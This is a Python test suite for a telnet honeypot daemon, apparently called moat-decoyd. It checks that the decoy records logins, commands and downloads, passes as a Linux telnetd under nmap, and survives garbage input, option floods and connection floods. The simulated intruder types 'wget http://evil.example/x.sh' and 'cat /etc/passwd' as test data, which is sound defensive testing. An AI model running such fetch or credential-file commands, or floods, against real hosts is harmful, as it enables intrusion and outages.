# SPDX-License-Identifier: GPL-2.0-or-later
"""moat-decoyd's telnet decoy through a real stack (issue 11, moat-decoyd):
a real telnet client (inetutils-telnet, driven by expect) logs in with
made-up credentials and types a few commands; the session is an asciicast
file that Debian's asciinema plays back showing what was typed, the
decoy.* events and the decoy_sessions row are there; nmap -sV names the port
a Linux telnetd; binary garbage, an option flood, an endless line and a
flood of connections from one source leave the daemon up and inside its
limits."""
import glob
import json
import os
import shutil
import socket
import subprocess
import tempfile
import time

import pytest

from moatstack import wait_for

USER, PASSWORD = "oracle", "Tr0ub4dor&3-decoy"
COMMANDS = ["uname -a", "wget http://evil.example/x.sh", "cat /etc/passwd"]


@pytest.fixture(scope="module")
def dd(stack):
    if stack.env.get("DECOYD") != "running":
        pytest.skip("moat-decoyd is not built")
    for tool in ("telnet", "expect", "asciinema", "nmap", "script"):
        if shutil.which(tool) is None:
            pytest.skip("%s is not installed (ctl/bootstrap)" % tool)
    return stack


def port(st):
    words = dict(w.split(":", 1) for w in st.env["DECOY_PORTS"].split())
    return int(words["telnet"])


def rss_kb(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def sessions(st):
    return st.sql("SELECT * FROM decoy_sessions ORDER BY id")


def events(st, kind):
    return [dict(r, detail=json.loads(r["detail_json"])) for r in
            st.sql("SELECT * FROM events WHERE kind = ? ORDER BY id", (kind,))]


def telnet_session(st, commands, user=USER, password=PASSWORD):
    """Logs in with telnet under expect and types commands, then exit."""
    lines = ["set timeout 15", "spawn telnet 127.0.0.1 %d" % port(st),
             'expect "login: "', 'send -- "%s\\r"' % user,
             'expect "Password: "', 'send -- "%s\\r"' % password.replace("&", "\\&"),
             'expect -re {[$#] $}']
    for c in commands:
        lines += ['send -- "%s\\r"' % c, 'expect -re {[$#] $}']
    lines += ['send -- "exit\\r"', "expect eof", "exit 0"]
    with tempfile.NamedTemporaryFile("w", suffix=".exp", delete=False) as f:
        f.write("\n".join(lines) + "\n")
        f.write("")
        path = f.name
    try:
        p = subprocess.run(["expect", "-f", path], capture_output=True, timeout=60)
    finally:
        os.unlink(path)
    return p.stdout.decode("utf-8", "replace")


@pytest.fixture(scope="module")
def intrusion(dd):
    before = {r["id"] for r in sessions(dd)}
    out = telnet_session(dd, COMMANDS)
    row = wait_for(lambda: [r for r in sessions(dd) if r["id"] not in before and
                            json.loads(r["summary"]).get("user") == USER] or None,
                   timeout=15, what="the session's decoy_sessions row")[0]
    return out, row


def test_client_sees_a_linux_host(intrusion):
    out, _ = intrusion
    assert "login: " in out and "Password: " in out
    assert "Linux web01" in out                         # uname -a, the stack's hostname
    assert "unable to resolve host address" in out      # wget: nothing fetched
    assert "root:x:0:0:root:/root:/bin/bash" in out     # cat /etc/passwd
    assert "logout" in out


def test_session_row_is_complete(dd, intrusion):
    _, row = intrusion
    assert row["personality"] == "telnet" and row["port"] == port(dd)
    assert row["src_ip"] == "127.0.0.1"
    assert row["started"] > 0 and row["ended"] >= row["started"]
    assert row["transcript_path"].startswith(dd.env["DECOY_DIR"] + "/")
    summary = json.loads(row["summary"])
    assert summary["logins"] == 1 and summary["commands"] == 4     # with exit
    assert summary["downloads"] == 1 and summary["end"] == "logout"
    assert summary["bytes_in"] > 0 and summary["bytes_out"] > 0


def test_events_carry_credentials_commands_download(dd, intrusion):
    _, row = intrusion
    key = json.loads(row["summary"])["session"]

    def mine(kind):
        return [e for e in events(dd, kind) if e["detail"].get("session") == key]
    assert len(mine("decoy.connect")) == 1
    login = mine("decoy.login")
    assert len(login) == 1
    assert login[0]["detail"]["user"] == USER and login[0]["detail"]["password"] == PASSWORD
    assert login[0]["src_ip"] == "127.0.0.1" and login[0]["daemon"] == "decoyd"
    assert [e["detail"]["command"] for e in mine("decoy.command")] == COMMANDS + ["exit"]
    dl = mine("decoy.download")
    assert len(dl) == 1 and dl[0]["detail"]["url"] == "http://evil.example/x.sh"
    assert dl[0]["detail"]["tool"] == "wget"
    assert len(mine("decoy.disconnect")) == 1


def test_asciicast_plays_what_was_typed(dd, intrusion):
    _, row = intrusion
    path = row["transcript_path"]
    with open(path, "rb") as f:
        lines = f.read().splitlines()
    head = json.loads(lines[0])
    assert head["version"] == 2 and head["width"] == 80 and head["height"] == 24
    assert isinstance(head["timestamp"], int) and head["title"]
    evs = [json.loads(l) for l in lines[1:]]
    assert {e[1] for e in evs} <= {"o", "i", "n"}
    assert all(b[0] >= a[0] for a, b in zip(evs, evs[1:]))        # time goes forward
    # Every input byte is kept: the "i" events decode back to what telnet
    # sent, the password and the telnet options included.
    raw = b"".join(e[2].encode("utf-8", "surrogateescape") for e in evs if e[1] == "i")
    assert PASSWORD.encode() in raw and b"wget http://evil.example/x.sh" in raw
    assert b"\xff\xfb\x18" in raw                                 # WILL TTYPE
    sent = b"".join(e[2].encode("utf-8", "surrogateescape") for e in evs if e[1] == "n")
    assert sent.startswith(b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27")
    # Debian's asciinema plays it (it needs a terminal: script gives one).
    p = subprocess.run(["script", "-qec", "asciinema play -s 100 -i 0.05 '%s'" % path,
                        "/dev/null"], capture_output=True, timeout=60)
    shown = p.stdout.decode("utf-8", "replace").replace("\r", "")
    assert p.returncode == 0, shown[-2000:]
    for c in COMMANDS:
        assert "web01:~$ " + c in shown, c
    assert "root:x:0:0" in shown
    assert PASSWORD not in shown                # not echoed, as login(1) does


def test_nmap_names_it_linux_telnetd(dd):
    p = subprocess.run(["nmap", "-sV", "-Pn", "-n", "--host-timeout", "90s", "-p",
                        str(port(dd)), "127.0.0.1"], capture_output=True, timeout=150)
    out = p.stdout.decode()
    line = [l for l in out.splitlines() if l.startswith("%d/tcp" % port(dd))]
    assert line, out
    assert " telnet " in line[0] and "Linux telnetd" in line[0], line[0]
    assert "honeypot" not in out.lower() and "unknown" not in line[0]


def connect(st, source=None):
    """A TCP connection to the telnet decoy, from source (an address on lo)
    when given."""
    s = socket.create_connection(("127.0.0.1", port(st)), timeout=10,
                                 source_address=(source, 0) if source else None)
    s.settimeout(10)
    return s


def drain(s):
    """Reads until the daemon closes (or 10 s); returns the bytes."""
    got = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            got += d
    except (ConnectionResetError, socket.timeout):
        pass
    return got


def last_summary(st, n=1):
    rows = wait_for(lambda: sessions(st)[-n:] if len(sessions(st)) >= n else None,
                    timeout=10, what="session rows")
    return [json.loads(r["summary"]) for r in rows]


def test_bad_input_keeps_it_up_and_bounded(dd):
    pid = dd.pid("moat-decoyd")
    before = len(sessions(dd))
    # Binary garbage.
    s = connect(dd)
    try:            # ^D or "exit" in the garbage may end the session first
        s.sendall(bytes(range(256)) * 400 + os.urandom(100000))
        s.shutdown(socket.SHUT_WR)
    except OSError:
        pass
    drain(s)
    s.close()
    # A telnet option flood: ended past its bound, answers bounded.
    s = connect(dd)
    try:
        for i in range(200):
            s.sendall(bytes([255, 251 + i % 4, i % 256]) * 500)
    except (BrokenPipeError, ConnectionResetError):
        pass
    got = drain(s)
    s.close()
    assert len(got) < 4096, len(got)
    # An endless line: cut at max_line, the session closed at max_bytes.
    s = connect(dd)
    s.sendall(b"\xff\xfb\x18\xff\xfb\x20\xff\xfb\x23\xff\xfb\x27")
    try:
        for _ in range(200):
            s.sendall(b"A" * 8192)
    except (BrokenPipeError, ConnectionResetError):
        pass
    drain(s)
    s.close()
    rows = wait_for(lambda: sessions(dd)[before:] if len(sessions(dd)) >= before + 3 else None,
                    timeout=15, what="three session rows")
    ends = [json.loads(r["summary"])["end"] for r in rows]
    assert ends[1] == "telnet option flood", ends
    assert ends[2] == "max_bytes", ends
    assert json.loads(rows[2]["summary"])["bytes_in"] == 1024 * 1024
    # Every one of them is recorded.
    for r in rows:
        assert os.path.getsize(r["transcript_path"]) > 100
    assert dd.pid("moat-decoyd") == pid and rss_kb(pid) < 64 * 1024
    # Still serving.
    s = connect(dd)
    assert s.recv(12) == b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"
    s.close()


def test_per_source_cap_closes_at_accept(dd):
    pid = dd.pid("moat-decoyd")
    held = []
    try:
        # From an address no other test uses: a session an earlier test just
        # closed may still hold a slot of 127.0.0.1 (seen in the slower
        # sanitizer build: 31 served).
        for _ in range(40):                     # per_source is 32 (the default)
            held.append(connect(dd, "127.0.0.9"))
        time.sleep(0.5)
        served = 0
        for s in held:
            s.settimeout(2)
            try:
                if s.recv(12):
                    served += 1
            except (ConnectionResetError, socket.timeout):
                pass
        assert served == 32, served
    finally:
        for s in held:
            s.close()
    assert dd.pid("moat-decoyd") == pid
    s = connect(dd)
    assert s.recv(3) == b"\xff\xfd\x18"
    s.close()
